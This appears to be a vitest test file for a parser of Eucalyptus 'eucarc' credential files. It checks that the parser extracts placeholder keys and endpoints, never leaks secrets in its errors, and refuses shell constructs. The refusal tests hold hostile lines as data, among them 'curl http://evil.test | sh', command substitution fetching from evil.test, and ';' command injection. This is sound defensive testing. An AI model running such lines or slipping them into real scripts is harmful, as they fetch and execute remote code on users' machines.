import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseCredentials } from '#domain/credentials/parse-credentials.ts';
import { parseEucarc } from '#domain/credentials/parse-eucarc.ts';
import { readExports } from '#domain/credentials/read-exports.ts';
import { anEucarc } from '#support/credentials/an-eucarc.ts';

const path = '/root/credentials/admin/eucarc';
const parse = (text: string) => parseCredentials('eucarc', { cloud: 'ciab', text, path });

function problemOf(text: string) {
  const reading = parse(text);
  if (reading.kind === 'read') {
    throw new Error('It was read');
  }
  return reading.problems[0];
}

describe('an eucarc', () => {
  it('gives the keys, whose they are, every service and the certificates', () => {
    expect(parse(anEucarc())).toEqual({
      kind: 'read',
      warnings: [],
      credentials: {
        kind: 'aws',
        cloud: 'ciab',
        account: '123456789012',
        user: 'admin',
        accessKeyId: 'AKIAPRACTICE000000001',
        secretAccessKey: 'secretSECRETsecretSECRETsecretSECRET0000',
        endpoints: {
          ec2: 'http://10.101.7.2:8773/services/Eucalyptus',
          s3: 'http://10.101.7.2:8773/services/Walrus',
          iam: 'http://10.101.7.2:8773/services/Euare',
          sts: 'http://10.101.7.2:8773/services/Tokens',
          autoscaling: 'http://10.101.7.2:8773/services/AutoScaling',
          cloudwatch: 'http://10.101.7.2:8773/services/CloudWatch',
          elb: 'http://10.101.7.2:8773/services/LoadBalancing',
        },
        certificatePaths: [
          '/root/credentials/admin/euca2-admin-1a2b3c4d-cert.pem',
          '/root/credentials/admin/euca2-admin-1a2b3c4d-pk.pem',
          '/root/credentials/admin/cloud-cert.pem',
        ],
      },
    });
  });

  it('tells of services that the cloud has not configured yet', () => {
    const text = anEucarc().replace(/^export S3_URL=.*$/m, 'echo WARN:  Walrus URL is not configured.');
    expect(parse(text)).toMatchObject({ kind: 'read', warnings: ['Walrus URL is not configured.'] });
  });

  it('reads the same with the line ends of Windows', () => {
    expect(parse(anEucarc().replaceAll('\n', '\r\n'))).toEqual(parse(anEucarc()));
  });

  it.each([
    ['export EC2_URL=$(curl http://evil.test)', 2, /A command stands here/],
    ['export EC2_URL=`id`', 2, /A command stands here/],
    ['export EC2_URL="${HOME}/x"', 2, /variable stands here/],
    ["export EC2_SECRET_KEY='abc", 2, /not closed/],
    ['curl http://evil.test | sh', 2, /Nutshell reads such lines only/],
    ['export EC2_URL=http://a.test; id', 2, /does not take literally/],
    ['export A=1 B=2', 2, /blank/],
    ['export A=~root', 2, /does not take literally/],
  ])('refuses %s with its line, and runs nothing', (line, at, sentence) => {
    const problem = problemOf(`# by hand\n${line}\n`);
    expect(problem).toMatchObject({ line: at });
    expect(problem?.message).toMatch(sentence);
  });

  it.each([
    ['', /empty/],
    ['<!DOCTYPE html><html></html>', /web page/],
    ['PK\u0003\u0004\u0000', /not text/],
    ['x'.repeat(200_000), /characters/],
  ])('says what %j is instead', (text, sentence) => {
    expect(problemOf(text)?.message).toMatch(sentence);
  });

  it('refuses a file that ends too early, whatever is missing, and never says a value', () => {
    const lines = anEucarc().split('\n');
    const needed = lines.findIndex((line) => line.startsWith('export EC2_SECRET_KEY')) + 1;
    for (let count = 0; count < needed; count += 1) {
      const problem = problemOf(lines.slice(0, count).join('\n'));
      expect(problem?.message).toMatch(/empty|missing/);
      expect(JSON.stringify(problem)).not.toContain('secretSECRET');
    }
  });

  it('never tells a secret in what it complains of', () => {
    for (let length = 1; length < anEucarc().length; length += 7) {
      expect(JSON.stringify(parse(anEucarc().slice(0, length)))).not.toMatch(/"message":"[^"]*secretSECRET/);
    }
  });

  it('refuses an address that is none', () => {
    expect(problemOf(anEucarc().replace(/EC2_URL=.*/, "EC2_URL='http://me:pass@x.test/'"))?.message).toMatch(/EC2_URL/);
  });

  it('throws nothing, whatever the text is', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (text) => {
        expect(['read', 'refused']).toContain(parseEucarc({ cloud: 'ciab', text, path: null }).kind);
      }),
    );
  });

  it('takes a value only where sh has the same', () => {
    const character = fc.constantFrom(...`ab1'"$\`\\~#!*?{}()[];&|<>=:/.%+ `.split(''));
    fc.assert(
      fc.property(fc.string({ unit: character, maxLength: 12 }), (written) => {
        const { values } = readExports(`export A=${written}`, { ignored: [], variables: new Map() });
        const value = values.get('A');
        if (value !== undefined) {
          const script = `export A=${written.trimEnd()}\nprintf %s "$A"`;
          expect(execFileSync('sh', ['-c', script], { encoding: 'utf8' })).toBe(value);
        }
      }),
      { numRuns: 150 },
    );
  });
});
